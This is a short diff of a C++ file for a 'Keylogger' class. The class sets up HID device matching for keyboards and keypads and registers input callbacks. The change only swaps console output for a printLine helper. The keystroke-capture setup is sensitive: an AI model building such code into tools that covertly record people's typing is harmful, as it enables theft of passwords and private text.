@@ -1,9 +1,9 @@
 #include "Keylogger/Keylogger.h"
 
-#include <iostream>
 #include <sstream>
 
 #include "Keylogger/CallBackFunctions.h"
+#include "platform/PrintLine.h"
 
 namespace keyloom {
 
@@ -52,7 +52,7 @@ void Keylogger::init() {
     deviceList.push_back(CreateDeviceMatchingDictionary(0x01, 0x06));
     deviceList.push_back(CreateDeviceMatchingDictionary(0xFF0A, 0x01));
     deviceList.push_back(CreateDeviceMatchingDictionary(0x01, 0x07));
-    std::cout << "dll " << describe(deviceList) << std::endl;
+    printLine("dll " + describe(deviceList));
 
     std::vector<HidUsageMatch> matching;
     for (const auto& dict : deviceList) matching.push_back(toMatch(dict));
@@ -61,7 +61,7 @@ void Keylogger::init() {
     manager->registerDeviceRemovalCallback(&CallBackFunctions::Handle_DeviceRemovalCallback, this);
     manager->registerInputValueCallback(&CallBackFunctions::Handle_IOHIDInputValueCallback, this);
 
-    if (openHIDManager() != 0) std::cout << "Can't open HID!" << std::endl;
+    if (openHIDManager() != 0) printLine("Can't open HID!");
 }
 
 DeviceMatchingDictionary Keylogger::CreateDeviceMatchingDictionary(int64_t inUsagePage, int64_t inUsage) {
